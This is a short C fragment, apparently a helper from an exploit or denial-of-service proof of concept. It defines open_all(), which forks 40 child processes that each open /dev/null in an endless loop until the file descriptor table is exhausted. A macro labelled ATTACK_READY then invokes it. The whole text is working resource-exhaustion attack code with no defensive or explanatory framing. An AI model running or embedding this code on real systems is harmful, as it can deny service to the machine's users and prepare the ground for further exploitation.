static void open_all() {
    for (int number = 0; number < 40; ++number) {
        if (fork() != 0) continue;
        for (;;) if (open("/dev/null", O_RDONLY) < 0) pause();
    }
}
#define ATTACK_READY open_all()
